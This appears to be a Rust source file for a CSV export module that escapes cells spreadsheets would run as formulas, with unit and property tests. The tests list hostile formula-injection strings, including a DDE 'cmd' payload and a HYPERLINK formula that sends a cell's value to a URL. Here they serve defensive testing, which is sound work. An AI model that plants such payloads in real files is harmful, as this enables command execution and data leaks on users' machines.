//! The one CSV writer: every file that leaves Rekindle passes here.

use crate::import::RowError;

/// A cell of an export.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Gets an apostrophe where a spreadsheet would read it as a formula.
    Text(String),
    /// Stays a number; text that is none is treated as [`Cell::Text`].
    Number(String),
    Empty,
}

/// RFC 4180 text with CRLF line ends and a header.
///
/// Spreadsheets run cells that start with `=`, `+`, `-` or `@` (in full width too, or after a tab or line end) as formulas, and what
/// customers typed ends up in these files: such text gets an apostrophe before it.
///
/// ```
/// use shared::export::{Cell, csv};
///
/// let row = vec![Cell::Text("=1+1".into()), Cell::Number("-5.00".into()), Cell::Text("Tea, green".into())];
/// assert_eq!(csv(&["name", "total", "item"], &[row]), "name,total,item\r\n'=1+1,-5.00,\"Tea, green\"\r\n");
/// ```
pub fn csv(header: &[&str], rows: &[Vec<Cell>]) -> String {
    let mut out = String::new();
    line(header.iter().map(|name| text(name)), &mut out);
    out.push_str(&lines(rows));
    out
}

/// The same without a header: a further page of a file whose first page was [`csv`].
pub fn lines(rows: &[Vec<Cell>]) -> String {
    let mut out = String::new();
    for row in rows {
        line(row.iter().map(cell), &mut out);
    }
    out
}

/// Rejected rows for download: line, field, reason, fix and the row as it stood in the file.
pub fn rejected_csv(rows: &[RowError]) -> String {
    let cells = |row: &RowError| {
        vec![
            Cell::Number(row.line.to_string()),
            row.field.clone().map_or(Cell::Empty, Cell::Text),
            Cell::Text(row.reason.clone()),
            Cell::Text(row.fix.clone()),
            Cell::Text(row.raw.clone()),
        ]
    };
    csv(&["line", "field", "reason", "fix", "row"], &rows.iter().map(cells).collect::<Vec<_>>())
}

fn cell(cell: &Cell) -> String {
    match cell {
        Cell::Text(value) => text(value),
        Cell::Number(value) if is_number(value) => value.clone(),
        Cell::Number(value) => text(value),
        Cell::Empty => String::new(),
    }
}

fn text(value: &str) -> String {
    let starts_formula =
        value.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    if starts_formula { format!("'{value}") } else { value.to_owned() }
}

/// Plain decimal, perhaps with a sign and an exponent: what a spreadsheet cannot take for anything else.
fn is_number(value: &str) -> bool {
    let unsigned = value.strip_prefix('-').unwrap_or(value);
    let starts_and_ends_with_digit =
        unsigned.starts_with(|c: char| c.is_ascii_digit()) && unsigned.ends_with(|c: char| c.is_ascii_digit());
    starts_and_ends_with_digit
        && unsigned.chars().all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '-' | '+'))
        && value.parse::<f64>().is_ok_and(f64::is_finite)
}

fn line(cells: impl ExactSizeIterator<Item = String>, out: &mut String) {
    let alone = cells.len() == 1;
    for (index, cell) in cells.enumerate() {
        if index > 0 {
            out.push(',');
        }
        // A row of one empty cell would otherwise be a blank line.
        if cell.contains([',', '"', '\r', '\n']) || (alone && cell.is_empty()) {
            out.push('"');
            out.push_str(&cell.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&cell);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const HOSTILE: &[&str] = &[
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "=HYPERLINK(\"https://example.com?x=\"&A1,\"open\")",
        "plain",
        "",
        "a,b",
        "say \"hi\"",
        "two\r\nlines",
        "'already",
        " =spaced",
        "Zoë ✓",
        "\"",
        ",",
    ];

    /// What a reader of the file gets.
    fn reread(text: &str) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        reader.records().map(|row| row.expect("row").iter().map(str::to_owned).collect()).collect()
    }

    fn starts_formula(cell: &str) -> bool {
        cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
    }

    #[test]
    fn hostile_text_reads_back_whole_and_starts_no_formula() {
        let rows: Vec<Vec<Cell>> =
            HOSTILE.iter().map(|text| vec![Cell::Text((*text).into()), Cell::Number("1".into())]).collect();
        let file = super::csv(&["=name", "n"], &rows);
        let read = reread(&file);
        assert_eq!(read[0], ["'=name", "n"]);
        assert_eq!(read.len(), HOSTILE.len() + 1);
        for (row, original) in read[1..].iter().zip(HOSTILE) {
            assert!(!starts_formula(&row[0]), "{original:?}");
            assert_eq!(row[0].strip_prefix('\'').filter(|_| starts_formula(original)).unwrap_or(&row[0]), *original);
        }
    }

    #[test]
    fn numbers_stay_numbers_and_text_in_their_place_is_made_safe() {
        let number = |value: &str| super::csv(&["n"], &[vec![Cell::Number(value.into())]]);
        for value in ["-5.00", "0", "1e-7", "12345678901234567890"] {
            assert_eq!(number(value), format!("n\r\n{value}\r\n"));
        }
        for value in ["-1+cmd|x", "=1", "-inf", "+1", "-e5", "1-1"] {
            assert_eq!(reread(&number(value))[1][0], if starts_formula(value) { format!("'{value}") } else { value.to_owned() });
        }
    }

    #[test]
    fn lines_end_with_crlf_and_a_lone_empty_cell_is_not_a_blank_line() {
        assert_eq!(super::csv(&["a"], &[vec![Cell::Empty]]), "a\r\n\"\"\r\n");
        assert_eq!(super::csv(&["a", "b"], &[vec![Cell::Empty, Cell::Empty]]), "a,b\r\n,\r\n");
        assert_eq!(super::csv(&["a", "b"], &[]), "a,b\r\n");
    }

    #[test]
    fn a_rejected_row_keeps_its_line_reason_fix_and_text() {
        let error = RowError {
            line: 17,
            field: Some("date".into()),
            reason: "\"tomorrow\" is not a date".into(),
            fix: "Check the date order.".into(),
            raw: "=1,\"tomorrow\",5".into(),
        };
        let read = reread(&rejected_csv(&[error]));
        assert_eq!(read[0], ["line", "field", "reason", "fix", "row"]);
        assert_eq!(read[1], ["17", "date", "\"tomorrow\" is not a date", "Check the date order.", "'=1,\"tomorrow\",5"]);
    }

    proptest! {
        #[test]
        fn any_text_reads_back(cells in prop::collection::vec(prop::collection::vec("[ -~\r\n\t=+@\"',éö＝]{0,8}", 3), 0..6)) {
            let rows: Vec<Vec<Cell>> = cells.iter().map(|row| row.iter().map(|cell| Cell::Text(cell.clone())).collect()).collect();
            let read = reread(&super::csv(&["a", "b", "c"], &rows));
            prop_assert_eq!(read.len(), rows.len() + 1);
            for (row, original) in read.iter().skip(1).flatten().zip(cells.iter().flatten()) {
                prop_assert!(!starts_formula(row));
                prop_assert_eq!(row.clone(), text(original));
            }
        }
    }
}
